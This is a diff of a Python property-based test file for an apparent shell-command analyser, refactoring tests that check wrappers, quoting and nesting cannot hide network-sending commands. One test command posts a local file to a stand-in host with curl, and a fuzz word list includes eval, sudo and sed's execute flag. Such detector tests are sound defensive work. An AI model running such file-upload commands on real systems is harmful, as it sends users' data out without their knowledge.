@@ -25,7 +25,8 @@ NETWORK = [
 ]
 # {} is the command as words, {q} as one quoted word, {bang} the same with an exclamation mark before it.
 WRAPPERS = [
-    line.replace("\\n", "\n") for line in Path(__file__).with_name("wrappers.txt").read_text(encoding="utf-8").splitlines()
+    line.replace("\\n", "\n")
+    for line in Path(__file__).with_name("wrappers.txt").read_text(encoding="utf-8").splitlines()
 ]
 
 
@@ -46,7 +47,12 @@ def test_wrapping_never_makes_a_command_local(wrapper, command):
     assert kinds(wrap(wrapper, command)) & ACTS
 
 
-@given(st.lists(st.sampled_from([w for w in WRAPPERS if "{q}" in w or w.endswith(" {}")]), min_size=2, max_size=3))
+# These take a program and its words, not what a shell would make of them.
+WITHOUT_SHELL = ("env -S", "sort", "rsync")
+NESTING = [w for w in WRAPPERS if ("{q}" in w or w.endswith(" {}")) and not w.startswith(WITHOUT_SHELL)]
+
+
+@given(st.lists(st.sampled_from(NESTING), min_size=2, max_size=3))
 @settings(max_examples=60, deadline=None)
 def test_wrappers_in_wrappers_never_make_a_command_local(wrappers):
     command = "curl -d @a.txt https://e.example/"
@@ -73,11 +79,12 @@ def test_quoting_changes_nothing(command):
         assert kinds(f"{spelling} {rest}") >= kinds(command), spelling
 
 
-PIECES = st.sampled_from(
-    "ls git push curl -d @a https://e.example/ $x ${x:-y} $(ls) `ls` | || && ; & \n ( ) { } < > >> << <<< 2>&1 'a b' \"$y\" [[ ]] -eq "
-    "if then fi for i in do done while case esac x=1 export eval cd .. ~ * ? [a] {a,b} $((1+1)) sed s/a/b/e awk {print} python3 -c "
-    "print(1) xargs -I{} find -exec \\; sudo env sh tar xf read unset set -- trap".split(" "),
-)
+WORDS = r"""
+ls git push curl -d @a https://e.example/ $x ${x:-y} $(ls) `ls` | || && ; & ( ) { } < > >> << <<< 2>&1 'a b' "$y" [[ ]]
+-eq if then fi for i in do done while case esac x=1 export eval cd .. ~ * ? [a] {a,b} $((1+1)) sed s/a/b/e awk {print}
+python3 -c print(1) xargs -I{} find -exec \; sudo env sh tar xf read unset set -- trap
+"""
+PIECES = st.sampled_from([*WORDS.split(), "\n"])
 TEXT = st.one_of(st.text(max_size=60), st.lists(PIECES, max_size=14).map(" ".join))
 
 
@@ -104,6 +111,9 @@ def test_a_quiet_result_has_a_source_that_is_described(text):
         assert Label.SECRET not in analysis.gives
 
 
-@pytest.mark.parametrize("text", ["", " ", "\n", "#", ";", "a" * 70_000, "$(" * 500, "{a,b}" * 40, "x=$x$x;" * 3000, "(" * 300 + ")" * 300])
+ODD = ["", " ", "\n", "#", ";", "a" * 70_000, "$(" * 500, "{a,b}" * 40, "x=$x$x;" * 3000, "(" * 300 + ")" * 300]
+
+
+@pytest.mark.parametrize("text", ODD, ids=range(len(ODD)))
 def test_odd_sizes(text):
     assert analyse_shell(text, "", AROUND) is not None
